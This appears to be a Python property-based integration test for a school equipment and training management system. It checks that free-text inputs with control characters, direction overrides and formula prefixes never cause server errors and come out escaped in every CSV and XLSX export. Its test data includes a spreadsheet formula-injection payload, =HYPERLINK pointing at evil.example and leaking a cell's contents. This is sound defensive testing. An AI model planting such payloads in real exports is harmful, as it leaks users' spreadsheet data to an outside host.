"""Generated text with control characters, direction overrides and formula prefixes, sent through the gateway
into every free-text field of every command of the real system; then every export downloaded (the reports, the
lists of the API and of the pages in CSV and XLSX, the activity log, the pivot table, the renewal plan, the
training's annual summary and convocation list, the resources' lists): no answer is a 5xx, no cell of any export
is a formula or carries a control character."""
import base64
import csv
import io
import re

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.gateway.api import EXPORTS, current_school_year
from services.gateway.queries import QUERIES
from shared.text import FORMULA_PREFIXES
from tests.helpers import wait_for
from tests.integration.test_gateway_http import SCHOOLS, Client, start_with_schools
from tests.integration.test_web_axes import Browser
from tests.unit.test_free_text import FIELDS, body_with

NASTY = ["\x0b", "\x00", "\x01", "\x1b", "\x7f", "\x85", "\x9f", "\u202a", "\u202e", "\u2066", "\u2069", "\n", "\r",
         "\t", " "]
texts = st.builds(lambda prefix, rest: prefix + rest,
                  st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"]),
                  st.text(st.sampled_from(list("ab é=+-@\"'(),&مدرسة") + NASTY), max_size=16))
YEAR = current_school_year()
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def no_control(value):
    assert not any(c in value for c in NASTY[:11]), repr(value)


def no_formula_nor_control(cells):
    """CSV cells: a spreadsheet runs what begins like a formula, so nothing may (a number is a number)."""
    for value in cells:
        no_control(value)
        assert not value.startswith(FORMULA_PREFIXES) or NUMBER.fullmatch(value), repr(value)


NUMBER = re.compile(r"-?\d+(\.\d+)?")
HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"
# Each list's pages and files, as the coordinator reads them: the API's exports, then the pages' files.
API_EXPORTS = sorted(f"{path}/export" for path, endpoint, *_ in QUERIES if endpoint in EXPORTS)
PAGE_FILES = ["/renewal.xlsx", "/trainings/summary?school_year={year}&export={fmt}",
              "/pivot?period={year}&by=commune&format={fmt}", "/pivot?period={year}&by=school&format={fmt}",
              *(f"/{listing}?export={{fmt}}" for listing in ("resources", "dysfunctions", "practices", "research",
                                                             "workshops"))]


def no_formula_in(content: bytes, fmt: str, where: str) -> None:
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], where
        for cell in (c for c in cells if isinstance(c.value, str)):
            no_control(cell.value)
            # text that begins like a formula is stored as text, and stays so when edited
            assert cell.quotePrefix or not cell.value.startswith(FORMULA_PREFIXES), (where, repr(cell.value))
    else:
        no_formula_nor_control(c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
                               for c in row)


def formula_like_records(coord: Client) -> None:
    """A record in each list whose free text begins like a formula, so that every export has some to write."""
    def sent(path, body):
        # A 409 may be a service that has not yet read a school from inventory's events: asked again until known.
        [answer] = wait_for(lambda: (lambda r: [r] if r.status_code != 409 or "unknown_" not in r.text else None)(
            coord.post(path, body)))
        assert answer.status_code == 201, (path, answer.status_code, answer.text[:300])
        return answer.json()["events"]

    received = sent("/api/inventory/receive_delivery", {"supplier": HYPERLINK, "delivery_ref": "+BL-1", "items": [
        {"serial": "SN-F1", "kind": "laptop", "model": "-1", "warranty_months": 24},
        {"serial": "SN-F2", "kind": "projector", "model": "@x", "warranty_months": 1}]})
    assets = [e["data"]["asset_id"] for e in received if e["event_type"] == "equipment_received"]
    for asset in assets:
        sent("/api/inventory/assign_equipment", {"asset_id": asset, "school_code": "OED001"})
    sent("/api/maintenance/declare_fault", {"asset_id": assets[0], "school_code": "OED001", "symptom": HYPERLINK})
    sent("/api/inventory/record_usage_visit", {"school_code": "OED001", "notes": "@visite", "observations": [
        {"asset_id": assets[1], "status": "unused"}]})
    sent("/api/inventory/propose_transfer", {"asset_ids": [assets[1]], "from_school": "OED001",
                                             "to_school": "OED002", "reason": "=1+1", "report": "+rapport"})
    sent("/api/resources/receive_resource", {"title": HYPERLINK, "subject": "-maths", "levels": ["@CE5"],
                                             "format": "video", "origin": "directorate"})
    sent("/api/resources/report_dysfunction", {"school_code": "OED001", "description": "=1+1"})
    sent("/api/resources/record_good_practice", {"school_code": "OED001", "teacher": "+Amal", "description": "@x"})
    sent("/api/resources/hold_awareness_workshop", {"school_codes": ["OED001"], "participants": 12,
                                                    "topic": HYPERLINK})
    sent("/api/resources/record_local_research", {"title": "=1", "findings": "-x", "recommendations": "@y"})


def test_no_generated_text_breaks_a_command_or_an_export(genie_env, runner_factory, rabbit_config, monkeypatch, rpc):
    base, coord = start_with_schools(runner_factory, rabbit_config, monkeypatch, "fatima")
    training = coord.post("/api/training/plan_training", {
        "title": "Usage du TBI", "modality": "in_person", "audience": "teachers", "planned_participants": 30,
        "school_year": YEAR}).json()["events"][0]["data"]["training_id"]
    session = coord.post("/api/training/schedule_session", {
        "training_id": training, "starts_on": f"{YEAR[:4]}-10-06", "ends_on": f"{YEAR[:4]}-10-06", "hours": 6,
        "venue": "CRMEF", "calendar_override_reason": "Jour retenu avec l'académie"}).json()
    session_id = session["events"][0]["data"]["session_id"]
    accepted = {"schools": 0, "people": 0}

    # Every free-text field of every command, each with a text the rule refuses: a 400 naming it, never a 5xx.
    for name, _, path, _ in FIELDS:
        route = name.split(":")[0]
        resp = coord.post(f"/api/{route}", body_with(path, "École\x0bAl Amal\u202e"))
        assert resp.status_code == 400, (name, resp.status_code, resp.text[:300])
        assert path[0][0] in resp.json()["errors"], (name, resp.json())

    @SETTINGS
    @given(field=st.sampled_from(FIELDS), text=texts, n=st.integers(0, 10**6))
    def one(field, text, n):
        name, _, path, _ = field
        assert coord.post(f"/api/{name.split(':')[0]}", body_with(path, text)).status_code < 500
        school = dict(SCHOOLS[0], school_code=f"GEN{n}", name_fr=text or "x", commune=text or "y")
        registered = coord.post("/api/inventory/register_school", school)
        assert registered.status_code in (201, 400, 409), registered.text[:300]
        if registered.status_code == 201:
            accepted["schools"] += 1
        invited = coord.post("/api/training/invite_participants", {"session_id": session_id, "participants": [
            {"staff_id": f"P{n}", "name": text or "z", "role": "teacher", "school_code": "OED001"}]})
        assert invited.status_code in (201, 400, 409), invited.text[:300]
        if invited.status_code == 201:
            accepted["people"] += 1

    one()
    assert accepted["schools"] and accepted["people"]  # formula-like names are accepted: the exports must cope

    formula_like_records(coord)

    for fmt in ("xlsx", "csv"):
        download = coord.get("/api/reports/download", scope="province:OED", period=YEAR, format=fmt)
        assert download.status_code == 200, download.text[:300]
        no_formula_in(download.content, fmt, "report")
    for lang in ("fr", "ar"):
        listing = rpc.training.convocation_list(session_id, "csv", lang)
        text = base64.b64decode(listing["content_base64"]).decode() if isinstance(listing, dict) else listing
        no_formula_nor_control(c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row)

    # Every list's file, each format in each language: the API's exports (the activity log among them), then the
    # pages' files as the coordinator downloads them.
    downloads = [(path, {"format": fmt, "lang": lang}, fmt) for path in API_EXPORTS for fmt in ("csv", "xlsx")
                 for lang in ("fr", "ar")]
    for path, params, fmt in downloads:
        answer = coord.get(path, **params)
        assert answer.status_code == 200, (path, params, answer.status_code, answer.text[:300])
        no_formula_in(answer.content, fmt, path)
    web = Browser(coord.base, "fatima")
    pages = {(page.format(year=YEAR, fmt=fmt), "xlsx" if page.endswith(".xlsx") else fmt)
             for page in PAGE_FILES for fmt in ("csv", "xlsx")}
    pages.add((f"/sessions/{session_id}/convocation.csv", "csv"))
    for page, fmt in sorted(pages):
        for lang in ("fr", "ar"):
            answer = web.get(page + ("&" if "?" in page else "?") + f"lang={lang}")
            assert answer.status_code == 200, (page, lang, answer.status_code, answer.text[:300])
            assert not answer.headers["Content-Type"].startswith("text/html"), (page, answer.text[:300])
            no_formula_in(answer.content, fmt, page)
    # The formula-like names did reach the files: a school's name in the schools' list, a supplier in the register.
    schools = coord.get("/api/schools/export", format="csv").content.decode("utf-8-sig")
    assert "'=" in schools or "'+" in schools or "'-" in schools or "'@" in schools
    register = coord.get("/api/equipment/export", format="csv").content.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in register
